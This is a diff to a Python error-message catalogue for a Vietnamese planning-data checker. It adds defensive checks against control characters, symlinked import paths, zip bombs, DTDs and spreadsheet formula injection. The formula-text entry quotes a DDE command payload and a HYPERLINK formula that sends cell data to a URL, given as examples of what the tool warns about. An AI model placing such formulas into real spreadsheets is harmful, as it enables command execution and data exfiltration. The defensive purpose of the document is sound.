@@ -14,6 +14,7 @@ Templates are `str.format` strings over the parameters. A message or hint may be
 alternatives: the first whose fields are all given (and not None) is used, so optional parts need
 no code. Special fields:
   `{x:?}`  prints nothing, but the alternative applies only when `x` is given;
+  `{x:n}`  a whole number grouped as the language writes it (499.900, 499,900);
   `{x:t}`  the phrase `x` from `PHRASES`, in the chosen language;
   a `Phrase` value is worded in the chosen language; a list or tuple is joined with ", ".
 Codes are stable (scripts rely on them): one code is one fault, never reused for another.
@@ -21,6 +22,7 @@ Codes are stable (scripts rely on them): one code is one fault, never reused for
 
 from __future__ import annotations
 
+import functools
 import string
 from dataclasses import dataclass, field
 from typing import Any
@@ -126,6 +128,13 @@ PHRASES: dict[str, dict[str, str]] = {
     "kind-socket": {"vi": "một socket", "en": "a socket"},
     "kind-device": {"vi": "một thiết bị", "en": "a device"},
     "kind-other": {"vi": "không phải tệp thông thường", "en": "not a regular file"},
+    # what import found on the way to the file it would write (import-path)
+    "path-link": {"vi": "một liên kết (symbolic link)", "en": "a symbolic link"},
+    "path-not-folder": {"vi": "một tệp, không phải thư mục", "en": "a file, not a folder"},
+    "path-not-file": {"vi": "không phải một tệp thông thường", "en": "not a regular file"},
+    "path-outside": {"vi": "một đường dẫn ra ngoài kho", "en": "a path leading outside the repository"},
+    "path-name": {"vi": "tên tệp có ký tự không nhìn thấy (xuống dòng, tab, ký tự điều khiển)",
+                  "en": "a file name with characters nobody can see (a newline, a tab, a control character)"},
     # periods (bad-period)
     "period-form": {"vi": "'{text}' không phải một năm (2015) hay một giai đoạn (2013-2016 hoặc 2013..2016)",
                     "en": "'{text}' is not a period: write a year (2015) or a range (2013-2016 or 2013..2016)"},
@@ -189,19 +198,47 @@ _add("too-large", ERROR, "files", "a file, header or cell beyond the size xhht r
      doc="A file larger than 64 MiB (xhht.toml: 64 KiB), a CSV header of more than 64 columns, or a cell "
          "of more than 4,000 characters. The file (or the row) is not read further.")
 _add("bad-character", ERROR, "files",
-     "a character some programs take for a line break (U+0085, U+2028, U+2029, a lone CR)",
-     vi=(("ký tự {char} ở đây (và {more} lần nữa trong tệp): có chương trình coi nó là xuống dòng, có chương trình "
+     "a line break other than LF (U+0085, U+2028, U+2029, a lone CR) or a control character (NUL, ESC, a bidi "
+     "override…)",
+     vi=(("{control:?}ký tự điều khiển {char} ở đây (và {more} lần nữa trong tệp): nó không hiện ra khi xem tệp, "
+          "nhưng có thể điều khiển màn hình, nhật ký CI hay đảo chiều dòng chữ",
+          "{control:?}ký tự điều khiển {char} ở đây: nó không hiện ra khi xem tệp, nhưng có thể điều khiển màn "
+          "hình, nhật ký CI hay đảo chiều dòng chữ",
+          "ký tự {char} ở đây (và {more} lần nữa trong tệp): có chương trình coi nó là xuống dòng, có chương trình "
           "không, nên số dòng sẽ lệch nhau",
           "ký tự {char} ở đây: có chương trình coi nó là xuống dòng, có chương trình không, nên số dòng sẽ lệch nhau"),
-         "xoá nó đi, hoặc lưu tệp với ký tự xuống dòng thông thường (LF hay CRLF); nó được đọc như một dấu cách"),
-     en=(("{char} here (and {more} more times in the file): some programs end a line there and others do not, "
+         ("{control:?}xoá nó đi (thường do sao chép từ một chương trình khác); nó được đọc như một dấu cách",
+          "xoá nó đi, hoặc lưu tệp với ký tự xuống dòng thông thường (LF hay CRLF); nó được đọc như một dấu cách")),
+     en=(("{control:?}the control character {char} here (and {more} more times in the file): it cannot be seen, "
+          "but it can control a terminal or a CI log, or reverse the order of a line",
+          "{control:?}the control character {char} here: it cannot be seen, but it can control a terminal or a CI "
+          "log, or reverse the order of a line",
+          "{char} here (and {more} more times in the file): some programs end a line there and others do not, "
           "so line numbers would disagree",
           "{char} here: some programs end a line there and others do not, so line numbers would disagree"),
-         "delete it, or save the file with ordinary line ends (LF or CRLF); it is read as a space"),
+         ("{control:?}delete it (it usually comes with text copied from another program); it is read as a space",
+          "delete it, or save the file with ordinary line ends (LF or CRLF); it is read as a space")),
      doc="Only a line feed (LF, or CRLF) ends a line. U+0085 (NEXT LINE), U+2028 (LINE SEPARATOR), U+2029 "
          "(PARAGRAPH SEPARATOR) and a lone carriage return end a line for some programs (YAML, Python's "
          "`splitlines`, old Mac files) and not for others, so every line number after them would be wrong. "
-         "The first is reported, with how many more, and each is read as a space.")
+         "Control characters (C0 but tab, LF and CR; DEL; C1) and the bidi embeddings, overrides and isolates "
+         "(U+202A–U+202E, U+2066–U+2069) are refused too: no text needs them, and they can clear a terminal, "
+         "forge a line of a CI log or make a line read otherwise than it is. The first of each is reported, with "
+         "how many more, and each is read as a space. `xhht import` refuses them in a form's cells.")
+_add("more-problems", ERROR, "files", "more problems of one code in one file than are printed (they are counted)",
+     vi=(("{one:?}{warning:?}… và {n:n} cảnh báo `{code}` khác trong {file}",
+          "{warning:?}… và {n:n} cảnh báo `{code}` khác trong {file}",
+          "{one:?}… và {n:n} lỗi `{code}` khác trong {file}", "… và {n:n} lỗi `{code}` khác trong {file}"),
+         "thường sửa một chỗ là hết cả loạt; `xhht check --all` in ra tất cả"),
+     en=(("{one:?}{warning:?}… and {n:n} more `{code}` warning in {file}",
+          "{warning:?}… and {n:n} more `{code}` warnings in {file}",
+          "{one:?}… and {n:n} more `{code}` error in {file}", "… and {n:n} more `{code}` errors in {file}"),
+         "one fix often mends the whole run of them; `xhht check --all` prints every one"),
+     doc="Not a fault of its own: past 100 problems of one code in one file, `xhht check` counts the rest in "
+         "this one line (in text, `--format github` and `--format json`, where it is an item of this code "
+         "after the first 100, with the severity of those it counts), so a 1 MB file of 500,000 broken lines "
+         "gives a short log and not a 100 MB one. The exit code and the last line count every problem. "
+         "`xhht check --all` prints every problem, in every format.")
 _add("template-error", ERROR, "files", "a repository template (templates/*.j2) that fails or is refused by the sandbox",
      vi=(("{syntax:?}không đọc được mẫu báo cáo: {detail}",
           "{sandbox:?}mẫu báo cáo bị hộp cát (sandbox) chặn: {detail}",
@@ -316,14 +353,25 @@ _add("duplicate-indicator", ERROR, "plans", "one plan lists the same indicator i
          "đặt cho mỗi chỉ tiêu một mã riêng, hoặc gộp các mục tiêu của chúng"),
      en=("the indicator `{id}` is listed twice in this plan (first on line {first})",
          "give each indicator its own id, or merge their targets"))
-_add("indicator-conflict", ERROR, "plans", "an indicator id is reused with another unit, direction or levels",
+_add("indicator-conflict", ERROR, "plans",
+     "an indicator id is reused with another unit, direction, levels or holds_for",
      vi=("chỉ tiêu `{id}` cũng có trong {other} (dòng {line}) nhưng khác {diffs}",
-         "một mã là một thước đo: dùng cùng unit, better và levels, hoặc đặt mã khác"),
+         "một mã là một thước đo: dùng cùng unit, better, levels và holds_for, hoặc đặt mã khác"),
      en=("the indicator `{id}` is also in {other} (line {line}) with another {diffs}",
-         "one id means one measure: use the same unit, better and levels, or another id"),
-     doc="One indicator id is one measure across the whole repository: the same `unit`, `better` and "
-         "`levels` everywhere (that is what lets one figure serve every plan). In a parent and a child plan, "
-         "it is reported in the child plan.")
+         "one id means one measure: use the same unit, better, levels and holds_for, or another id"),
+     doc="One indicator id is one measure across the whole repository: the same `unit`, `better`, "
+         "`levels` and `holds_for` everywhere (that is what lets one figure serve every plan, for as many "
+         "years in each). In a parent and a child plan, it is reported in the child plan.")
+_add("bad-holds-for", ERROR, "plans", "`holds_for` that is not a whole number of years from 1 to 200",
+     vi=("holds_for phải là một số năm nguyên từ 1 đến {most}, ở đây là {value}",
+         "ví dụ holds_for: 3 khi công nhận được bảo lưu trong 3 năm tiếp theo năm được công nhận "
+         "(Thông tư 25/2023/TT-BGDĐT); bỏ khoá này nếu số liệu chỉ có giá trị trong năm của nó"),
+     en=("holds_for must be a whole number of years from 1 to {most}; here it is {value}",
+         "e.g. holds_for: 3 when a recognition holds for the 3 years after the year it was given "
+         "(Thông tư 25/2023/TT-BGDĐT); leave the key out when a figure counts for its own year only"),
+     doc="`holds_for: N` says that a figure of year Y0 also stands for the N years after it while the "
+         "unit has no newer figure ([the comparison rules](commands.md#the-comparison-rules)); N is a whole "
+         "number from 1 to 200, written bare (`3`, not `\"3\"` or `3.0`).")
 _add("bad-period", ERROR, "plans", "a period that is not a year or a YEAR-YEAR range",
      vi=("{reason}", "viết ví dụ period: 2014-2020"),
      en=("{reason}", "write e.g. period: 2014-2020"))
@@ -396,11 +444,32 @@ _add("subunit-without-measure", ERROR, "plans", "a `subunits` entry with neither
          'e.g. count: {{2030: 9}} for "09 huyện", or share: {{2020: 100}} for "100% xã"'),
      doc="A target on units (\"09 huyện đạt…\", \"100% xã…\") says how many units (`count`) or what "
          "share of them (`share`) by which year. Earlier versions reported this as `missing-key`.")
+_add("formula-text", WARNING, "plans", "a name or title that a spreadsheet would read as a formula",
+     vi=("'{text}' bắt đầu bằng một ký tự mà bảng tính (Excel, LibreOffice) coi là đầu một công thức (=, +, -, @)",
+         "viết lại cho khỏi bắt đầu bằng ký tự đó; biểu `xhht form` ghi nó như chữ, nhưng dán vào một bảng tính "
+         "khác nó có thể thành công thức (một liên kết gửi số liệu đi, hay một lệnh)"),
+     en=("'{text}' begins with a character a spreadsheet (Excel, LibreOffice) takes for the start of a formula "
+         "(=, +, -, @)",
+         "reword it so that it does not begin with that character; `xhht form` writes it as text, but pasted "
+         "into another spreadsheet it may become a formula (a link that sends the figures away, or a command)"),
+     doc="A plan's title, document number and issuer, group titles, indicator names and levels, and the names "
+         "in `areas.csv`, reach every commune's form and the spreadsheets officers copy them into. One that "
+         "begins with `=`, `+`, `-`, `@` (or a tab, a line break, or their full-width forms) is a formula or "
+         "a DDE call there: `=cmd|' /C calc'!A0`, `=HYPERLINK(\"http://…\"&D3,\"Bấm vào đây\")`. The "
+         "forms xhht writes hold such text as text (a string cell with the quote prefix), so the warning is "
+         "for the copies; it fails `check` only with `--strict`.")
 _add("unknown-parent-plan", ERROR, "plans", "`parent` names a plan id that no plan file has",
      vi=("kế hoạch cấp trên `{parent}` không có trong plans/ (các kế hoạch: {plans})",
          "thêm plans/{parent}.yaml chép văn bản cấp trên, hoặc bỏ `parent`"),
      en=("the parent plan `{parent}` is not in plans/ (plans: {plans})",
          "add plans/{parent}.yaml transcribing the parent document, or remove `parent`"))
+_add("plan-cycle", ERROR, "plans", "plans whose `parent` links form a cycle (a plan its own parent)",
+     vi=("`parent` của các kế hoạch tạo thành một vòng (một kế hoạch thành cấp trên của chính nó): {cycle}",
+         "`parent` ghi mã kế hoạch cấp trên mà kế hoạch này thực hiện (căn cứ); sửa hoặc bỏ một `parent` trong vòng"),
+     en=("plans whose parents form a cycle: {cycle}",
+         "`parent` names the higher plan this one implements; correct or remove one `parent` of the cycle"),
+     doc="A plan that names itself as `parent`, or plans whose `parent` links come back round (like `area-cycle` "
+         "for areas). Reported once per cycle, at the `parent` of the plan with the smallest id.")
 _add("unknown-plan-area", ERROR, "plans", "a plan's `area` is not in areas.csv",
      vi=("địa bàn '{area}' của kế hoạch không có trong areas.csv", "thêm địa bàn vào areas.csv, hoặc sửa mã"),
      en=("the plan's area '{area}' is not in areas.csv", "add the area to areas.csv, or correct the code"))
@@ -544,7 +613,8 @@ _add("unknown-indicator", ERROR, "figures", "a figure for an indicator that no p
      en=("no plan defines the indicator `{id}`", ("did you mean `{guess}`?", "add it to a plan in plans/, or correct "
                                                                             "the id")),
      doc="Figures of an indicator that a plan file too broken to load also uses are not reported: they are "
-         "judged once that plan is fixed.")
+         "judged once that plan is fixed. The ids of such a file are read by a tolerant scan of its `id:` "
+         "lines when it is not YAML at all (a TAB), not UTF-8, or not a plan.")
 _add("unknown-area", ERROR, "figures", "a figure for an area that is not in areas.csv",
      vi=("địa bàn '{area}' không có trong areas.csv", "thêm một dòng cho địa bàn vào areas.csv (mã giữ số 0 đầu: 01 "
                                                       "là Hà Nội)"),
@@ -674,6 +744,59 @@ _add("import-target", ERROR, "import", "the file an import would write exists an
          "rename the form file, or choose another folder with --into"),
      doc="Figures go to `data/<year>/<form file stem>.csv` (or `DIR/<stem>.csv` with `--into DIR`); an "
          "existing file is added to only when it has the header the import writes. " + _IMPORT_DOC)
+_add("import-path", ERROR, "import", "a folder on the way to the file an import would write is a link or a file",
+     vi=("đây là {kind:t}: `xhht import` chỉ ghi vào thư mục thật bên trong kho, nên không ghi gì",
+         "thay nó bằng một thư mục thật của kho (hoặc xoá nó đi), hoặc chọn thư mục khác bằng --into"),
+     en=("this is {kind:t}: `xhht import` writes only into real folders inside the repository, so nothing "
+         "was written",
+         "replace it with a real folder of the repository (or remove it), or choose another folder with --into"),
+     doc="Figures are written only inside the repository's own folders: a folder on the way to "
+         "`data/<year>/<stem>.csv` (or `--into DIR`) that is a symbolic link (even one leading inside the "
+         "repository), a dangling link or a file, or a target file that is a link or not a regular file, "
+         "is refused before anything is written, so a committed `data/2022 → /etc` cannot receive a "
+         "form. So is a form whose name has a newline, a tab or another character nobody can see (the "
+         "data file would be named after it). " + _IMPORT_DOC)
+_add("bad-workbook", ERROR, "import", "a workbook that is damaged, beyond the bounds, or has a DTD",
+     vi=(("{dtd:?}phần {part} của bảng tính có khai báo DTD (<!DOCTYPE …>): Excel và LibreOffice không bao giờ ghi "
+          "như vậy, và nó có thể dùng để đọc tệp khác hay làm treo chương trình; không đọc",
+          "phần {part} của bảng tính không phải XML hợp lệ (dòng {line}, cột {column}): tệp bị hỏng",
+          "bảng tính có {entries} phần, quá {limit} phần xhht đọc",
+          "bảng tính giải nén ra {size} byte, quá {limit} byte xhht đọc",
+          "phần {part} của bảng tính nén tới {ratio} lần, quá {limit} lần (có thể là một 'bom zip'): không đọc",
+          "{zip:?}không mở được tệp như một bảng tính .xlsx (tệp nén zip hỏng): {detail}",
+          "thư viện đọc Excel (openpyxl) không đọc được bảng tính: {detail}"),
+         "mở tệp bằng Excel hoặc LibreOffice rồi lưu lại dạng .xlsx; nếu vẫn lỗi, điền số liệu vào một biểu mới "
+         "tạo bằng `xhht form`"),
+     en=(("{dtd:?}the part {part} of the workbook has a DTD (<!DOCTYPE …>): Excel and LibreOffice never write "
+          "one, and it could read another file or hang the program; not read",
+          "the part {part} of the workbook is not valid XML (line {line}, column {column}): the file is damaged",
+          "the workbook has {entries} parts, more than the {limit} xhht reads",
+          "the workbook unpacks to {size} bytes, more than the {limit} xhht reads",
+          "the part {part} of the workbook is packed {ratio} to 1, more than {limit} to 1 (perhaps a zip bomb): "
+          "not read",
+          "{zip:?}the file cannot be opened as an .xlsx workbook (a damaged zip): {detail}",
+          "the Excel reader (openpyxl) cannot read the workbook: {detail}"),
+         "open the file in Excel or LibreOffice and save it again as .xlsx; if that fails, type the figures into "
+         "a new form made by `xhht form`"),
+     doc="A workbook is checked before openpyxl opens it: at most 1,000 parts, 64 MiB unpacked in all, no "
+         "part over 1 MiB packed more than 200 to 1 (the sizes are read from the zip's directory, before "
+         "anything is unpacked), and every XML part parses without a DTD (so no external entity and no entity "
+         "bomb, whatever XML parser openpyxl uses). Whatever else openpyxl cannot read (a number cell holding "
+         "`0x10`, a style index out of range, an unknown attribute value) is this problem too, with what "
+         "openpyxl said: never an internal error. " + _IMPORT_DOC)
+_add("no-data-sheet", ERROR, "import", "a workbook without a visible sheet named exactly `Số liệu`",
+     vi=(("{hidden:?}trang 'Số liệu' của bảng tính đang bị ẩn: không đọc một trang người điền không nhìn thấy "
+          "(các trang: {sheets})",
+          "bảng tính không có trang nào tên đúng là 'Số liệu' (các trang: {sheets}): không đọc trang nào khác"),
+         "nhập biểu do `xhht form` tạo và giữ nguyên trang 'Số liệu' (không đổi tên, không ẩn); số liệu điền ở "
+         "trang đó"),
+     en=(("{hidden:?}the sheet 'Số liệu' of the workbook is hidden: a sheet the officer could not see is not read "
+          "(the sheets: {sheets})",
+          "the workbook has no sheet named exactly 'Số liệu' (the sheets: {sheets}): no other sheet is read"),
+         "import a form made by `xhht form`, keeping its sheet 'Số liệu' (not renamed, not hidden), with the "
+         "figures in it"),
+     doc="Only the sheet named exactly `Số liệu`, visible, is read: never the first sheet in its place, "
+         "nor a hidden one. The message names the workbook's sheets. " + _IMPORT_DOC)
 _add("no-keys-row", ERROR, "import", "a form or CSV file without the row of column keys",
      vi=(("không có dòng mã cột (indicator, area, period, value, …) trong trang '{sheet}'",
           "không có dòng mã cột (indicator, area, period, value, …)"),
@@ -792,6 +915,8 @@ class _Formatter(string.Formatter):
     def format_field(self, value: Any, spec: str) -> str:
         if spec == "?":
             return ""
+        if spec == "n":  # a count as the language writes it: 499.900 (vi), 499,900 (en)
+            return f"{value:,}".replace(",", "." if self.lang == "vi" else ",")
         if spec == "t" and not isinstance(value, Phrase):
             value = Phrase(str(value))
         if isinstance(value, Phrase):
@@ -821,7 +946,20 @@ def word_phrase(p: Phrase, lang: str) -> str:
 
 
 def word(code: str, params: dict[str, Any], lang: str, part: str = "message") -> str:
-    """The message (or hint) of a problem `code` with `params`, in `lang`."""
+    """The message (or hint) of a problem `code` with `params`, in `lang`. Worded once for the same
+    plain parameters (a flood of 500,000 problems repeats a few): memoised when every value is a
+    str, int or None (a Phrase compares by its key alone, so it is never a memo key)."""
+    if all(v is None or type(v) in (str, int, bool) for v in params.values()):
+        return _word_plain(code, tuple(params.items()), lang, part)
+    return _word(code, params, lang, part)
+
+
+@functools.lru_cache(maxsize=4096)
+def _word_plain(code: str, items: tuple[tuple[str, Any], ...], lang: str, part: str) -> str:
+    return _word(code, dict(items), lang, part)
+
+
+def _word(code: str, params: dict[str, Any], lang: str, part: str) -> str:
     entry = CATALOGUE[code]
     alternatives = (entry.message if part == "message" else entry.hint)[lang if lang in LANGS else "vi"]
     template = _choose(alternatives, params)
